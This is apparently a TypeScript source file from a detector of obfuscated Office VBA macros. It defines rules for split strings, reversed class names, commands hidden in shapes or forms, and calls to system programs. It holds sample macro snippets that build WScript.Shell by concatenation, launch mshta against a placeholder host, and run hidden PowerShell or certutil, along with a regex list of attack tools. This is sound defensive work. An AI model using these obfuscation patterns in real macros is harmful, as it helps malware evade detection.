/** What hides a technique: names that nobody can read, words in pieces, commands kept where nobody looks. */
import { isAttacking, namesSystemProgram } from './commands';
import { HOLE, KEPT, spellings } from './spelling';
import type { Strength, Technique } from './technique';
import type { MacroCall } from '../understanding';
import { hasTrace, objectsOf, textsOf } from '../values/make';
import { traces } from '../values/value';
import type { Value } from '../values/value';

/** Words whose only use in pieces is to be overlooked. */
const TELLTALE =
  /wscript\.shell|shell\.application|winmgmts|win32_process|powershell|mshta|regsvr32|rundll32|certutil|bitsadmin|msxml2\.(?:server)?xmlhttp|microsoft\.xmlhttp|winhttp\.winhttprequest|adodb\.stream|schedule\.service|cmd(?:\.exe)? \/[ckv]|wbemscripting|cscript|urldownloadtofile|system32\\/g;

const PUT_TOGETHER = traces.joined | traces.decoded;
const KEPT_PLACES = traces.form | traces.property | traces.variable | traces.alternativeText;
/** Objects whose text a person seldom looks at. */
const KEPT_CLASSES =
  /control|documentpropert|variable|shape|comment|customxml|userform|alternativetext|(?:^|\/)(?:caption|tag|controltiptext)$/;

/** Names of classes as Windows knows them. */
const CLASS_NAME = /^[a-z0-9_-]{1,60}(?:\.[a-z0-9_-]{1,60}){0,3}$|^[{(]?[0-9a-f-]{36}[})]?$|^[a-z]+:/;

const MAKERS = new Set(['createobject', 'getobject']);

/** Shows a text to a person, or puts it where people read: it may name whatever it likes. */
const TELLS: ReadonlySet<string> = new Set(
  `msgbox inputbox popup print statusbar addcomment additem addtext insertafter insertbefore typetext raise find replace
  instr shell run exec shellexecute create open createobject getobject followhyperlink ddeinitiate sendkeys eval addcode
  executestatement execscript executeexcel4macro addfromstring insertlines executeshellcommand install caption text value
  ontime onkey`.split(/\s+/),
);

export const hiding: readonly Technique[] = [
  {
    id: 'computed-object',
    does: 'starts',
    calls: [
      'run',
      'exec',
      'create',
      'shellexecute',
      'execmethod',
      'execmethod_',
      'invokeverb',
      'showwindow',
      'spawninstance_',
      'navigate',
      'navigate2',
    ],
    on: 'anything',
    kind: 'any',
    matters: ({ arguments: values }) => values.slice(0, 1),
    strength: (_, call) => strengthOfNames(call),
    attack: ['T1027.010', 'T1059.005'],
    fires: [
      'Set o = CreateObject(ActiveDocument.Shapes(1).AlternativeText)\no.Run ActiveDocument.Shapes(2).AlternativeText, 0',
      'CreateObject("wS" & ActiveDocument.BuiltInDocumentProperties("Title") & "ell").Run "cmd /c echo test.invalid", 0',
      'Set o = CreateObject(Take("Excel", "Nb7cg/Ypa"))\no.Run Take("Excel", "Aab"), 0\nEnd Sub\nFunction Take(k, s)\nTake = k & s\nEnd Function\nSub Z()',
      'Set made = CreateObject(Mid(StoreIt.Box1.Tag, 3, 20))\nmade.Create x',
    ],
    silent: [
      'Set d = CreateObject("Scripting." & Kind())\nd.Add "a", 1\nEnd Sub\nFunction Kind()\nKind = "Dictionary"\nEnd Function\nSub Z()',
      'Set b = GetObject(ThisWorkbook.Path & "\\" & Range("A1").Value)\nb.Activate',
      'Set q = CreateObject("Matlab.Application")\nq.Run "a"',
      'Dim Suite As New SpecSuite\nSuite.Run "all"\nstdLambda.Create "x"',
    ],
  },
  {
    id: 'computed-member',
    does: 'starts',
    calls: [''],
    on: ['wscript.shell', /^shell\.application/, /^winmgmts/],
    strength: () => 1,
    attack: ['T1027.010'],
    fires: ['CallByName CreateObject("Shell.Application"), unknown, VbMethod, "notreal"'],
    silent: ['CallByName Range("A1"), "Select", VbMethod', 'x = CallByName(listener, callback, VbMethod, answer)'],
  },
  {
    id: 'kept-text',
    does: 'hides',
    calls: [
      'shell',
      'run',
      'exec',
      'create',
      'shellexecute',
      'createobject',
      'getobject',
      'addcode',
      'executestatement',
      'winexec',
      'createprocess',
    ],
    on: 'anything',
    strength: (_, { arguments: values }) => (values.some(isKept) ? 0.5 : 0),
    attack: ['T1027.009'],
    fires: [
      'Shell UserForm1.Label1.Caption, 0\nEnd Sub\nSub UserForm1()',
      'Shell ActiveDocument.CustomXMLParts(4).SelectSingleNode("//x").Text, 0',
    ],
    silent: ['Shell Range("B1").Value', 'Shell "notreal.exe"'],
  },
];

/** What any call may show, whatever it does. */
export const hidingAnywhere: readonly Technique[] = [
  {
    id: 'split-word',
    does: 'hides',
    calls: [],
    on: 'anything',
    matters: splitWords,
    strength: (word) => (word === '' ? 0 : 1),
    attack: ['T1027.010'],
    fires: [
      'Set o = CreateObject("WScr" & "ipt.Sh" & "ell")',
      'cmd = "msh" & "ta http://files.invalid/a"\nGo cmd',
      'x = CreateObject(StrReverse("llehS.tpircSW"))',
    ],
    silent: [
      'p = "C:" & "\\" & "nowhere"\nMsgBox p',
      'Shell "cmd /c dir " & p',
      'q = "SELECT a " & "FROM b"\nc.Execute q',
    ],
  },
  {
    id: 'system-program',
    does: 'hides',
    calls: [],
    on: 'anything',
    matters: (call) =>
      (TELLS.has(call.name) && call.kind !== 'file') || call.kind === 'native'
        ? []
        : call.arguments.filter((value) => value !== undefined && mayName(value)).slice(0, 8),
    strength: (text) => (text === '' ? 0 : isAttacking(text) ? 1 : namesSystemProgram(text) ? 0.5 : 0),
    attack: ['T1059.001', 'T1218'],
    fires: [
      'Open "C:\\Data\\a.txt" For Output As #1\nPrint #1, "powershell -w hidden -enc QUFBQUFB"',
      'Go "certutil -decode a b"',
    ],
    silent: ['MsgBox "powershell -w hidden -enc QUFBQUFB"', 'Range("A1").Value = "cmd /c"', 'Go "a command"'],
  },
];

function strengthOfNames(call: MacroCall): Strength {
  let strongest: Strength = 0;
  for (const { className, made } of objectsOf(call.object)) {
    if (made === undefined || !MAKERS.has(made.name)) continue;
    const strength = strengthOfName(made, className, call.name);
    if (strength > strongest) strongest = strength;
  }
  return strongest;
}

/** The name that an object was made by: how little is known of it. */
function strengthOfName(made: MacroCall, className: string, does: string): Strength {
  const name =
    made.arguments[made.name === 'getobject' && made.arguments[1] !== undefined ? 1 : 0] ??
    made.named.get('class') ??
    made.named.get('pathname');
  const isNavigation = does.startsWith('navigate');
  if (className !== '') return made.name === 'createobject' && !isNavigation && !CLASS_NAME.test(className) ? 1 : 0;
  let strongest: Strength = 0;
  for (const text of spellings(name)) {
    const strength = strengthOfUnknownName(name, text, isNavigation);
    if (strength > strongest) strongest = strength;
  }
  return strongest;
}

function strengthOfUnknownName(name: Value | undefined, text: string, isNavigation: boolean): Strength {
  if (text.includes(KEPT) || isKept(name)) return 1;
  if (isNavigation || !text.includes(HOLE)) return 0;
  // A name that was put together so that nobody reads it; one from a parameter or a setting is a library's.
  return hasTrace(name, PUT_TOGETHER) || /[a-z]/.test(text) ? 1 : 0.5;
}

function isKept(value: Value | undefined): boolean {
  if (value === undefined) return false;
  if (hasTrace(value, KEPT_PLACES)) return true;
  if (value.kind === 'object') return KEPT_CLASSES.test(value.className) && value.className !== 'shapes';
  return (
    value.kind === 'unknown' &&
    value.pieces.some(
      (piece) =>
        typeof piece === 'object' && piece.object !== undefined && KEPT_CLASSES.test(wayTo(piece.object.className)),
    )
  );
}

function wayTo(className: string): string {
  return className;
}

/** Telltale words that were put together here and stand nowhere in the module as they are. */
function splitWords(call: MacroCall): readonly Value[] {
  const found: Value[] = [];
  for (const value of call.arguments) {
    if (value === undefined || !hasTrace(value, PUT_TOGETHER)) continue;
    for (const text of textsOf(value).slice(0, 4)) {
      const lower = text.slice(0, 8_192).toLowerCase();
      for (const [word] of lower.matchAll(TELLTALE)) {
        if (lowerSource(call.place.module).includes(word)) continue;
        found.push({ kind: 'text', text: word, traces: 0 });
        break;
      }
    }
  }
  return found;
}

const sources = new WeakMap<object, string>();

function lowerSource(module: MacroCall['place']['module']): string {
  let lower = sources.get(module);
  if (lower === undefined) sources.set(module, (lower = module.source.toLowerCase()));
  return lower;
}

function mayName({ kind }: Value): boolean {
  return kind === 'text' || kind === 'unknown' || kind === 'alternatives';
}
